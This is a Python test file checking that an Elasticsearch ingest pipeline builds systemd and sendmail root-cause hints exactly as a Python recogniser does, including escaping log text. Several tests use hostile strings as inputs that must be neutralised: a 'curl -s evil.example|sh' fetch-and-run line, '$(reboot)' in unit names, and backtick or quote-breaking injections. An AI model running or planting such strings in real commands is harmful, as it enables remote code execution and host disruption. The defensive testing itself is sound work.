"""A document that reaches Elasticsearch unrecognised (from Filebeat, say) gets from the recognition
pipeline the hint the Python recogniser gives it: the variables read the same way (document fields
first, each path in turn), the values Python computes (the explanation of an exit status or of a
unit result), the same variant, and every value put in as `hints.render` puts it.

The pipeline runs in the stand-in ingest node of tests/helpers/ingest.py (the integration tests run
it in Elasticsearch); the documents are the corpus's, syslog and journal, parsed by shipper's parsers.
"""

from __future__ import annotations

import dataclasses
import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from helpers import ingest
from helpers.es_recognition import documents, expected as python_rootcause
from helpers.samples import parse_journal, parse_lines
from shipper.enrich import exitcodes, hints
from shipper.errors import ConfigError
from shipper.event import Doc
from shipper.enrich.recognise import Recognise
from shipper.recognise.rules import COMPUTED_VARS, load_files, load_rules
from shipper.recognise.units import UNIT_CHARS, UNIT_FIRST_CHARS, UNIT_REGEX, UNIT_TYPES, is_unit_name
from shipper.setup import hint_script, painless
from shipper.setup.recognition import FILES, build_pipeline

ROOT = Path(__file__).resolve().parents[2]
BODY = json.loads((ROOT / FILES[0]).read_text())
PROCESS_EXITED = "98e322203f7a4ed290d09fe03c09fe15"


def _pipeline(doc: Doc) -> dict[str, Any]:
    """The rootcause the pipeline gives ``doc``; a failure, or a field of its own left behind, fails."""
    out = ingest.run(BODY, doc)
    assert ingest.failure(out) is None and not any(k.startswith("rc") for k in out), out  # no failure, nothing left over
    return dict(out.get("rootcause", {}))


def _shape(doc: Doc) -> str:
    if not doc.get("journald", {}).get("message_id"):
        return "text"
    return "journal, user unit" if doc.get("systemd", {}).get("user_unit") else "journal, system unit"


def test_the_pipeline_gives_the_python_signature_and_hint_to_every_corpus_document() -> None:
    compared: Counter[tuple[str, str]] = Counter()
    said: list[str] = []
    wrong = []
    for path, doc in documents():
        want, got = python_rootcause(doc), _pipeline(doc)
        if want != got:
            wrong.append((path.name, doc["message"][:100], want.get("hint"), got.get("hint")))
        elif want:
            compared[want["signature"], _shape(doc)] += 1
            said.append(want["hint"])
    assert not wrong, wrong[:10]
    for sig in ("systemd.process_exited", "systemd.unit_failed"):
        assert {(sig, "text"), (sig, "journal, system unit")} <= compared.keys(), compared
    assert ("systemd.unit_failed", "journal, user unit") in compared and sum(compared.values()) > 150
    # texts the pipeline could not give before: computed values, variants, the journal's system units
    for fragment in ("main process failed with FAILURE (1): a generic failure",  # status_explained
                     "exited 71 (EX_OSERR): a system call failed",  # a variant
                     "exited 78 (EX_CONFIG)",
                     "entered the failed state (exit-code: the main or a control process exited",  # result_explained
                     "did not finish starting (or stopping) in time (result 'timeout')",  # a pattern's set: value
                     "gdm.service entered the failed state"):  # UNIT= of a journal entry
        assert any(fragment in hint for hint in said), fragment
    assert not any("with ?;" in hint or "(?)" in hint for hint in said)  # what a value nobody computed gave


@pytest.mark.parametrize(("line", "expected"), [
    ("gdm.service: Main process exited, code=exited, status=1/FAILURE",
     "gdm.service's main process failed with FAILURE (1): a generic failure;"),
    ("nginx.service: Main process exited, code=dumped, status=6/ABRT",
     "nginx.service's process aborted and dumped core (SIGABRT): either systemd's watchdog aborted it"),
    ("nginx.service: Main process exited, code=killed, status=15/TERM",
     "nginx.service's process was killed by a signal (SIGTERM (15): terminated"),
    ("app.service: Main process exited, code=exited, status=42/n/a",
     "app.service's main process failed with exit status 42: specific to the program"),
    ("app.service: Control process exited, code=exited status=130",
     "app.service's control process failed with 130 = 128+2: the process was killed by SIGINT: interrupted;"),
    ("sendmail.service: Main process exited, code=exited, status=71/n/a",
     "sendmail.service exited 71 (EX_OSERR): a system call failed"),
    ("app.service: Failed with result 'exit-code'.",
     "app.service entered the failed state (exit-code: the main or a control process exited with a non-zero status)"),
    ("app.service: Failed with result 'watchdog'.", "app.service stopped answering its watchdog (WatchdogSec=)"),
    ("app.service: Failed with result 'frobnicated'.", "app.service entered the failed state (frobnicated);"),
])
def test_what_python_computes_the_pipeline_computes_too(line: str, expected: str) -> None:
    """Bug: the pipeline's hint said "...process failed with ?" (status_explained, which Python
    computes, was nobody's field) and "(this line does not give the result)" for every result."""
    (doc,) = parse_lines([f"Aug 30 14:56:07 gorp systemd[1]: {line}"])
    want, got = python_rootcause(doc), _pipeline(doc)
    assert want["hint"].startswith(expected), want["hint"]
    assert got == want


def _journal_exit(**fields: str) -> Doc:
    entry = {"MESSAGE": "Main process exited, code=exited, status=71/OSERR", "SYSLOG_IDENTIFIER": "systemd",
             "_PID": "1", "MESSAGE_ID": PROCESS_EXITED, "EXIT_CODE": "exited", "EXIT_STATUS": "71",
             "_HOSTNAME": "gorp", "__REALTIME_TIMESTAMP": "1504104967000000", **fields}
    (doc,) = parse_journal([entry])
    return doc


@pytest.mark.parametrize(("fields", "unit"), [
    ({"UNIT": "sendmail.service"}, "sendmail.service"),  # a system unit: the second of the unit's fields
    ({"USER_UNIT": "pipewire.service", "UNIT": "user@1000.service"}, "pipewire.service"),
    ({"USER_UNIT": "$(reboot).service", "UNIT": "sendmail.service"}, "sendmail.service"),  # not a unit name: passed over
    ({"UNIT": "`reboot`.service"}, "the unit"),
])
def test_a_journal_entry_names_its_unit_from_whichever_field_has_it(fields: dict[str, str], unit: str) -> None:
    """Bug: the pipeline filled {unit} from the first field only (systemd.user_unit), so a system
    unit's hint began "'s main process failed"."""
    doc = _journal_exit(**fields)
    want, got = python_rootcause(doc), _pipeline(doc)
    assert want["hint"].startswith(f"{unit} exited 71 (EX_OSERR)"), want["hint"]
    assert got == want


# A hint with a signature's default in prose and in commands (bare, in '...', in "..."): no signature
# file's hint has one now (their remediations do, which the pipeline does not give).
PLACEHOLDER_FAMILY = """\
family: demo
description: a hint that names its unit in prose and in commands
gate: ["boom"]
signatures:
  - id: demo.boom
    role: failure
    recognises: "boom [in UNIT]"
    title: "boom"
    hint: >-
      {unit} went boom; `journalctl -b -u {unit}`, `sh -c 'systemctl status {unit}'` or
      `echo "{unit}"` ({unit} as it is).
    remediation: "none"
    docs: [man:systemctl(1)]
    prefilter: ["boom"]
    patterns:
      - 'boom(?: in (?P<unit>UNIT_REGEX))?$'
    defaults: {unit: "the unit"}
""".replace("UNIT_REGEX", UNIT_REGEX)


@pytest.mark.parametrize(("line", "expected"), [
    ("boom", "the unit went boom; `journalctl -b -u UNIT`, `sh -c 'systemctl status UNIT'` or `echo \"UNIT\"` (the unit as it is)."),
    ("boom in a.service", "a.service went boom; `journalctl -b -u a.service`, `sh -c 'systemctl status a.service'` or "
                          "`echo \"a.service\"` (a.service as it is)."),
])
def test_a_default_is_a_placeholder_in_a_command_in_the_pipeline_too(tmp_path: Path, line: str, expected: str) -> None:
    """Bug: a hint said `journalctl -b -u the unit` when the log named no unit: a command that
    breaks when pasted. In a command the default is a placeholder (UNIT), in prose its text."""
    path = tmp_path / "demo.yaml"
    path.write_text(PLACEHOLDER_FAMILY)
    rules = load_files([path])
    (doc,) = parse_lines([f"Aug 30 14:56:07 gorp demo[1]: {line}"])
    (python,) = Recognise(rules).enrich([dict(doc)])
    pipeline = ingest.run(build_pipeline(rules, 1), doc)
    assert "error" not in pipeline, pipeline
    assert python["rootcause"]["hint"] == pipeline["rootcause"]["hint"] == expected


@pytest.mark.parametrize(("line", "expected"), [
    ("Aug 30 14:56:07 gorp systemd[1]: Failed to start `curl -s evil.example|sh` and $(reboot).",
     "the start job of 'curl -s evil.example|sh' and $(reboot) failed;"),
    ("Aug 30 14:56:07 gorp sendmail[812]: NOQUEUE: SYSERR(root): `touch /tmp/pwned`: it said 'no'",
     "sendmail reported a system error as user root: 'touch /tmp/pwned': it said 'no';"),
])
def test_free_text_from_the_log_cannot_open_a_command(line: str, expected: str) -> None:
    """Bug: the pipeline put a log's text into the hint as it was; its backticks would open code in
    Kibana's Markdown. Python makes each one ', and so does the pipeline now."""
    (doc,) = parse_lines([line])
    want, got = python_rootcause(doc), _pipeline(doc)
    assert want["hint"].startswith(expected), want["hint"]
    assert got == want and "`" not in got["hint"]


# -- the script's parts, against the Python they mirror -------------------------------------------------

PAYLOADS = ["plain", "", "a b", "it's", 'say "hi"', "`id`", "$(reboot)", "x\\y", "!!", "-n", "é", "a\nb",
            "unit\\x2dname.service", "'; echo INJECTED; '"]


@pytest.mark.parametrize("how", [hints.PROSE, hints.BARE, hints.IN_SINGLE, hints.IN_DOUBLE])
def test_the_script_puts_a_value_in_as_python_does(how: str) -> None:
    for value in PAYLOADS:
        assert ingest._put_value(value, how) == hints.put(value, how), (how, value)


def test_the_pipeline_gets_the_templates_as_render_reads_them() -> None:
    """Every hint, of every step and variant, is `hints.pieces` of the signature file's template."""
    rules = load_rules()
    steps = next(p["script"] for p in BODY["processors"] if "script" in p)["params"]["steps"]
    for tag, step in steps.items():
        sig_id, which = tag.split("#")
        sig = rules.by_id[sig_id]
        pat = None if which == "journal" else sig.patterns[int(which)]
        base = (pat.hint if pat is not None and pat.hint else None) or sig.hint
        assert step["hint"] == [list(p) for p in hints.pieces(base)], tag
        assert [v["hint"] for v in step["variants"]] == [[list(p) for p in hints.pieces(v.hint or base)]
                                                         for v in sig.variants], tag


@pytest.mark.parametrize("code", ["exited", "killed", "dumped", None, "weird"])
def test_the_status_table_explains_every_status_as_exitcodes_does(code: str | None) -> None:
    table = hint_script.status_table()
    for status in [*range(0, 600), 99999, 10**30]:
        assert ingest._explained(table, code, str(status)) == exitcodes.explain(code, status), (code, status)
    assert ingest._explained(table, code, "0071") == exitcodes.explain(code, 71)


def test_the_result_table_is_exitcodes() -> None:
    assert hint_script.result_table() == {r: exitcodes.explain_result(r) for r in exitcodes.RESULTS}
    assert "exit-code" in hint_script.result_table()


def test_the_script_checks_unit_names_as_python_does() -> None:
    names = ["sendmail.service", "-.mount", "-.slice", "getty@tty1.service", "getty@.service", "a\\x2db.scope",
             "@x.service", "-x.service", ".service", "x.", "x.services", "x.automount", "a.b.c.timer", "x.y",
             "$(reboot).service", "a b.service", "é.service", "x" * 248 + ".service", "x" * 247 + ".service", "",
             "a.service.mount", ".s" * 120 + "x"]
    names += [n for c in map(chr, range(0x3000)) for n in (f"{c}.service", f"a{c}.service", f"a.{c}")]
    for name in names:
        assert ingest._is_unit(name) == is_unit_name(name), name


def test_the_script_is_filled_in_from_the_python_definitions() -> None:
    """The painless gets its constants from where Python reads them, and no regex (Elasticsearch
    limits how much text a regex may read: a forged unit name would fail the document)."""
    source = hint_script.SOURCE
    for literal in (painless.strings(UNIT_TYPES), painless.string(UNIT_FIRST_CHARS), painless.string(UNIT_CHARS),
                    painless.string(hints.BARE_CHARS), painless.string(hints.SPECIAL_IN_DOUBLE)):
        assert literal in source
    assert "@" not in source.replace(painless.string(UNIT_CHARS), "").replace(painless.string(hints.BARE_CHARS), "")
    assert "=~" not in source and "/." not in source
    assert source.count("{") == source.count("}") and source.count("(") == source.count(")")


def test_every_computed_variable_is_computed_by_the_script() -> None:
    assert COMPUTED_VARS == hint_script.SCRIPT_COMPUTED.keys() | hints.DOC_FIELDS.keys()


def test_the_script_and_its_tables_are_in_the_pipeline_once() -> None:
    scripts = [p["script"] for p in BODY["processors"] if "script" in p]
    assert len(scripts) == 1 and scripts[0]["source"] == hint_script.SOURCE
    assert json.dumps(BODY).count('"statuses"') == 1


def test_a_hint_the_pipeline_cannot_give_as_python_does_is_refused_when_generating() -> None:
    """A lower-case variable read from the document would reach the script in the log's case."""
    sig = load_rules().by_id["systemd.process_exited"]
    odd = dataclasses.replace(sig, doc_vars={**sig.doc_vars, "which": ("journald.which",)})
    with pytest.raises(ConfigError, match="which"):
        hint_script.step_params(odd, sig.patterns[0])
